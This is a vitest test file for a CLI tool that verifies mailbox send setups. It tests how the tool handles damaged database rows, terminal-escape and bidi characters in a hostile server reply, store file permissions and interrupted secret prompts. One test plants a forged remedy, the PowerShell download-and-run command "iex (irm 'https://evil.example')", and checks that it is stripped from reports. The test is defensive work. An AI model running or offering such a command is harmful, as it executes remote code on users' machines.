/** What a broken disk or a hostile server left in the store is said in one sentence, and commands no terminal. */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import path from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { describe, expect, onTestFinished, test } from 'vitest'
import { aProbe, aRun } from '../../kit/samples.ts'
import { en } from '../../../src/words/en.ts'
import { Desk, noKeychain } from './cli.ts'
import { cliHere, composedHere } from './in-process.ts'

const entry = path.resolve(import.meta.dirname, '../../../src/cli/index.ts')
const create = ['setup', 'create', '--recipe', 'eap', '--name', 'C', '--answer', 'hostname=eap.contoso.com']
const ids = [
  '--tenant',
  '2dcaa1fe-0c3c-4b0e-9a52-6f3d3c1f7a10',
  '--client-id',
  '8b1d3f52-7c1e-4a8e-b1a9-0a4f8a7c9d21',
]
const mara = 'mara.novak@contoso.com'

/** A real setup with a mailbox that is signed in and, with `reply`, a run whose one message a server refused with it. */
async function aSetup(reply?: string) {
  const desk = new Desk()
  onTestFinished(() => desk.close())
  const cli = (...words: string[]) => cliHere(desk.folder, ...words)
  const made = JSON.parse((await cli(...create, ...ids, '--json')).out) as { id: string }
  const { app, ports, ...composed } = await composedHere(desk.folder)
  const row = { address: mara, kind: 'user', displayName: null, signInAs: mara } as const
  app.mailboxes.import(made.id, [row])
  await app.mailboxes.setRecipient(made.id, 'verify@contoso.com')
  const [mailbox] = ports.mailboxes.senders(made.id)
  const signIn = { username: mara, objectId: 'o', tenantId: 't', at: '2026-11-21T09:00:00.000Z', scopes: [] }
  ports.mailboxes.setAuthorisation(mailbox?.id ?? '', signIn, null)
  if (reply !== undefined) {
    const run = aRun(made.id, { state: 'finished', finishedAt: '2026-11-21T09:05:00.000Z' })
    const refused = { reply, outcome: 'refused', phase: 'done', from: mara, mailbox: mara } as const
    const probe = aProbe(run.id, 1, { ...refused, mailboxId: mailbox?.id ?? '' })
    ports.runs.createRun(run, [probe])
    // what has no journal here came out of a file
    ports.runs.saveProbe(probe, { at: run.startedAt, probeId: probe.id, kind: 'refused', data: {} })
  }
  await composed.close()
  return { desk, cli, id: made.id }
}

describe('a row of the store that a disk has damaged', () => {
  test.each([
    ['a setup', 'UPDATE setups SET data = \'{"id":\''],
    ['a setup of no known shape', "UPDATE setups SET data = '{}'"],
    ['a probe', "UPDATE probes SET facts = '{'"],
    ['a sign-in', "UPDATE mailboxes SET authorisation = '{'"],
  ])('is one sentence and exit code 3, not a stack trace, and stays where it is: %s', async (_, damage) => {
    const { desk, cli } = await aSetup('550 no')
    const sound = create.map((word) => (word === 'C' ? 'sound' : word))
    if (damage.includes('setups')) expect((await cli(...sound, ...ids)).code).toBe(0)
    const db = new DatabaseSync(path.join(desk.folder, 'sendproof.db'))
    db.exec(damage.includes('setups') ? `${damage} WHERE name = 'C'` : damage)
    db.close()
    const listed = await cli('setup', 'list')
    expect([listed.code, listed.err.includes('“C” cannot be read')]).toEqual([3, true])
    expect(listed.out.startsWith('sound')).toBe(damage.includes('setups'))
    const report = ['report', 'C', '--format', 'html', '--out', path.join(desk.folder, 'r.html')]
    for (const words of [['setup', 'status', 'C'], report]) {
      const ended = await cli(...words)
      expect(ended.code, words.join(' ')).toBe(3)
      expect(ended.err).toMatch(
        /^An entry in the store .* is damaged and cannot be read\. Nothing was changed\..*\n$/,
      )
    }
    expect(readdirSync(desk.folder).filter((name) => name.includes('.bad-'))).toEqual([])
    expect(existsSync(path.join(desk.folder, 'r.html'))).toBe(false)
  })
})

describe('the words of a hostile server', () => {
  const reply = '535 5.7.3 a\u0000b\u001b[2Jc\u009b31m\u202egnp.exe'

  test('reach no terminal, no file of the report and no support bundle as they came', async () => {
    const { desk, cli } = await aSetup(reply)
    const out = (name: string) => path.join(desk.folder, name)
    const shown = [
      await cli('support', 'C', '--show'),
      await cli('report', 'C', '--format', 'json', '--out', out('r.json')),
      await cli('setup', 'status', 'C', '--json'),
      await cli('mailbox', 'list', 'C'),
    ]
    for (const { code, out: text, err } of shown) {
      expect(code).toBe(0)
      expect(text + err).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/)
    }
    expect(shown[0]?.out).toContain('535 5.7.3')
  })
})

describe('a setup file that brings a remedy of its own', () => {
  test('is imported without it: no command out of a file is shown as advice', async () => {
    const { desk, cli } = await aSetup('554 5.2.252 SendAsDenied')
    const out = (name: string) => path.join(desk.folder, name)
    expect((await cli('setup', 'export', 'C', '--out', out('C.json'))).code).toBe(0)
    const document = JSON.parse(readFileSync(out('C.json'), 'utf8')) as {
      runs: { probes: { diagnosis: unknown }[] }[]
    }
    const [probe] = document.runs.flatMap(({ probes }) => probes)
    if (probe === undefined) throw new Error('no attempt was exported')
    const remedy = { role: 'you', text: 'Run this.', portal: [], command: "iex (irm 'https://evil.example')" }
    probe.diagnosis = {
      candidates: [
        {
          ...{ tag: 'send_as_denied', confidence: 0.9, title: 'Run this', explanation: 'evil' },
          ...{ remedies: [remedy], links: ['https://learn.microsoft.com/evil'] },
        },
      ],
      questions: [],
    }
    writeFileSync(out('forged.json'), JSON.stringify(document))
    const victim = new Desk()
    onTestFinished(() => victim.close())
    const taken = await cliHere(victim.folder, 'setup', 'import', out('forged.json'))
    expect(taken).toMatchObject({ code: 0 })
    const report = await cliHere(victim.folder, 'report', 'C', '--format', 'html', '--out', out('r.html'))
    expect(report.code).toBe(0)
    const html = readFileSync(out('r.html'), 'utf8')
    expect(html).toContain('SendAsDenied')
    expect(html).not.toMatch(/evil|iex|Run this/)
    const { app, ports, ...composed } = await composedHere(victim.folder)
    const [run] = ports.runs.listRuns(app.setups.list().cards[0]?.id ?? '')
    const kept = JSON.stringify(ports.runs.probes(run?.id ?? ''))
    await composed.close()
    expect(kept).toContain('Add-RecipientPermission')
    expect(kept).not.toMatch(/evil|iex|Run this/)
  })
})

// a session bus is how a keychain is found on Linux; elsewhere it cannot be taken away from a test
describe.runIf(process.platform === 'linux')('a keychain that does not answer', () => {
  test('stops “verify” where people sign in before anything is tried, and no run says otherwise', async () => {
    const { desk, cli } = await aSetup()
    const ended = await desk.start(['verify', 'C'], noKeychain).ended
    expect(ended.code).toBe(3)
    expect(ended.err.trim().split('\n')).toHaveLength(1)
    expect(JSON.parse((await cli('setup', 'status', 'C', '--json')).out)).toMatchObject({ lastRunId: null })
  })
})

describe('the file of the store', () => {
  test.skipIf(process.platform === 'win32')(
    'is for its owner alone, also where it was open to all',
    async () => {
      const { desk, cli } = await aSetup()
      const file = path.join(desk.folder, 'sendproof.db')
      expect(statSync(file).mode & 0o777).toBe(0o600)
      chmodSync(file, 0o644)
      expect((await cli('setup', 'list')).code).toBe(0)
      expect(statSync(file).mode & 0o777).toBe(0o600)
    },
  )

  test('that was emptied beside sign-ins is said to be lost, not taken for a new one', async () => {
    const { desk, cli } = await aSetup()
    mkdirSync(path.join(desk.folder, 'vault'), { recursive: true })
    for (const name of readdirSync(desk.folder).filter((one) => one.startsWith('sendproof.db-')))
      rmSync(path.join(desk.folder, name))
    writeFileSync(path.join(desk.folder, 'sendproof.db'), '')
    const listed = await cli('setup', 'list')
    expect(listed.code).toBe(0)
    expect(listed.err).toMatch(/store/i)
    expect(readdirSync(desk.folder).some((name) => name.startsWith('sendproof.db.bad-'))).toBe(true)
  })
})

test.skipIf(process.platform === 'win32')(
  'the first Ctrl+C ends a command that waits for a secret',
  async () => {
    const { desk } = await aSetup()
    const words = ['credential', 'set', 'C', '--data', desk.folder]
    const child = spawn(process.execPath, [entry, ...words], { stdio: ['pipe', 'pipe', 'pipe'] })
    onTestFinished(() => void child.kill('SIGKILL'))
    const ended = once(child, 'close')
    // Node's own warnings may come before the command has begun to wait
    let said = ''
    for await (const part of child.stderr) {
      said += String(part)
      if (said.includes(en.cli.credential.reading['client-secret'])) break
    }
    child.kill('SIGINT')
    expect(await ended).toEqual([2, null])
  },
)
